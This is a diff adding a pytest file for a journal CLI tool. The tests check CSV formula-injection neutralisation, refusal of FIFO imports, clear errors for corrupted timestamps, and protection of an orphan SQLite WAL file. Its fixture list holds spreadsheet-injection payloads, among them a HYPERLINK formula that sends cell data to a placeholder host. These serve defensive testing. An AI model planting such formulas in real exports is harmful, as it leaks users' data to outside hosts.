@@ -1,0 +1,176 @@
+"""The journal and its exchange files against hostile or broken input (issue 11, cases 9, 11
+and 14): formula cells neutralised in CSV and restored on import, FIFOs refused, a hand-edited
+impossible time named rather than a traceback, a read-only folder readable, an orphan -wal
+file never deleted."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import shutil
+import sqlite3
+import subprocess
+import sys
+import tempfile
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from crampcoach.cli import cli
+from crampcoach.journal.store import Journal
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Open")', "+1+1", "-2", "@SUM(A1:A9)",
+            "\tTab first", "\rCarriage return first", "'Quoted already", "''", "'=1", "Plain"]
+
+
+def _run(*args: str) -> Result:
+    result = CliRunner().invoke(cli, list(args))
+    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
+    return result
+
+
+def _fixed_clock() -> Iterator[datetime]:
+    minute = 0
+    while True:
+        minute += 1
+        yield datetime(2026, 3, 1, 22, minute % 60, tzinfo=UTC)
+
+
+def _journal_with_notes(path: Path) -> None:
+    clock = _fixed_clock()
+    with Journal.open(path, clock=lambda: next(clock)) as journal:
+        for note in FORMULAS:
+            journal.add_rating(4, note=note, routine=note)
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
+    journal = tmp_path / "journal.sqlite3"
+    _journal_with_notes(journal)
+    result = _run("history", "export", "--format", "csv", "--journal", str(journal))
+    assert result.exit_code == 0
+    rows = result.stdout.split("\n")[3:]
+    assert rows[0].endswith(
+        ',"\'=HYPERLINK(""http://x.example/?""&A1,""Open"")",,,,,,,,4,'
+        '"\'=HYPERLINK(""http://x.example/?""&A1,""Open"")"')
+    assert rows[1].endswith(",'+1+1,,,,,,,,4,'+1+1")
+    assert rows[2].endswith(",'-2,,,,,,,,4,'-2")
+    assert rows[3].endswith(",'@SUM(A1:A9),,,,,,,,4,'@SUM(A1:A9)")
+    assert rows[4].endswith(",'\tTab first,,,,,,,,4,'\tTab first")
+    assert rows[6].endswith(",''Quoted already,,,,,,,,4,''Quoted already")
+    assert rows[9].endswith(",Plain,,,,,,,,4,Plain")
+    # No cell of a record starts with a character a spreadsheet treats as a formula.
+    for row in rows[:-1]:
+        cells = [c.lstrip('"') for c in row.split(",")]
+        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), row
+
+
+def test_the_json_and_csv_round_trip_stays_exact(tmp_path: Path) -> None:
+    journal = tmp_path / "journal.sqlite3"
+    _journal_with_notes(journal)
+    csv_file = tmp_path / "export.csv"
+    assert _run("history", "export", "-o", str(csv_file), "--journal", str(journal)).exit_code == 0
+    copy = tmp_path / "copy.sqlite3"
+    imported = _run("history", "import", str(csv_file), "--journal", str(copy))
+    assert imported.stdout == f"Imported 0 sessions and 10 ratings from {csv_file}.\n"
+    original = json.loads(_run("history", "export", "--format", "json", "--journal",
+                               str(journal)).stdout)["records"]
+    again = json.loads(_run("history", "export", "--format", "json", "--journal",
+                            str(copy)).stdout)["records"]
+    assert again == original
+    assert [r["note"] for r in again] == FORMULAS
+
+
+def test_a_fifo_as_the_import_is_refused_at_once(tmp_path: Path) -> None:
+    fifo = tmp_path / "export.csv"
+    os.mkfifo(fifo)
+    result = _run("history", "import", str(fifo), "--journal", str(tmp_path / "j.sqlite3"))
+    assert (result.exit_code, result.stderr) == (
+        1, f"Error: {fifo}: not a regular file (a FIFO, device or socket). "
+           "Nothing was imported.\n")
+    assert not (tmp_path / "j.sqlite3").exists()
+
+
+def _digest(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def test_an_impossible_time_edited_into_a_row_is_named(tmp_path: Path) -> None:
+    journal = tmp_path / "journal.sqlite3"
+    _run("rate", "3", "--journal", str(journal))
+    with sqlite3.connect(journal) as db:
+        db.execute("UPDATE ratings SET at = '2026-13-39T25:59:00.000000Z', uuid = 'edited'")
+    db.close()
+    before = _digest(journal)
+    for command in (["history", "export"], ["history", "export", "--format", "json"]):
+        result = _run(*command, "--journal", str(journal))
+        assert (result.exit_code, result.stdout) == (1, "")
+        assert result.stderr == (
+            f"Error: the journal {journal} holds a rating (id edited) with an impossible time "
+            "'2026-13-39T25:59:00.000000Z'. It was left untouched; correct that time with an "
+            "SQLite tool (see docs/journal.md).\n")
+    assert _digest(journal) == before
+
+
+def test_an_orphan_wal_file_is_never_deleted(tmp_path: Path) -> None:
+    journal = tmp_path / "journal.sqlite3"
+    _run("rate", "5", "--journal", str(journal))
+    # Records still in the write-ahead log when the journal itself went missing.
+    holder = sqlite3.connect(journal)
+    holder.execute("PRAGMA wal_autocheckpoint = 0")
+    holder.execute("INSERT INTO ratings (uuid, at, value) "
+                   "VALUES ('in-wal', '2026-01-01T00:00:00.000000Z', 7)")
+    holder.commit()
+    wal = tmp_path / "journal.sqlite3-wal"
+    saved = wal.read_bytes()
+    holder.close()
+    journal.unlink()
+    (tmp_path / "journal.sqlite3-shm").unlink(missing_ok=True)
+    wal.write_bytes(saved)
+    for command in (["rate", "3"], ["history"], ["history", "export"]):
+        result = _run(*command, "--journal", str(journal))
+        assert (result.exit_code, result.stderr) == (
+            1, f"Error: {wal} is there without its journal {journal}: it may hold records. It "
+               "was left untouched; put the journal back beside it, or move it aside to start "
+               "afresh.\n")
+    assert wal.read_bytes() == saved
+    assert not journal.exists()
+
+
+@pytest.fixture
+def shared_folder() -> Iterator[Path]:
+    """A folder another user can read (pytest's own are private to their owner)."""
+    folder = Path(tempfile.mkdtemp(prefix="crampcoach-ro-"))
+    folder.chmod(0o755)
+    try:
+        yield folder
+    finally:
+        folder.chmod(0o755)
+        shutil.rmtree(folder)
+
+
+def test_a_journal_in_a_read_only_folder_can_be_read(shared_folder: Path) -> None:
+    journal = shared_folder / "journal.sqlite3"
+    assert _run("rate", "6", "--journal", str(journal)).exit_code == 0
+    journal.chmod(0o644)
+    shared_folder.chmod(0o555)
+    python, as_user = sys.executable, {}
+    if os.geteuid() == 0:
+        # Root may write anywhere: then the reader is another user, as on a shared machine,
+        # with the system's Python (this one may live in root's private home).
+        python, as_user = "/usr/bin/python3", {"user": 65534}
+    package = Path(__file__).parents[1] / "src"
+    site = next(p for p in sys.path if p.endswith("site-packages"))
+    done = subprocess.run(
+        [python, "-m", "crampcoach", "history", "export", "--format", "json",
+         "--journal", str(journal)],
+        capture_output=True, text=True, check=False, timeout=60, cwd="/",
+        env={"PATH": "/usr/bin:/bin", "HOME": str(shared_folder),
+             "PYTHONPATH": f"{package}{os.pathsep}{site}"}, **as_user)
+    assert (done.returncode, done.stderr) == (0, "")
+    [record] = json.loads(done.stdout)["records"]
+    assert record["rating"] == 6
+    assert sorted(p.name for p in shared_folder.iterdir()) == ["journal.sqlite3"]
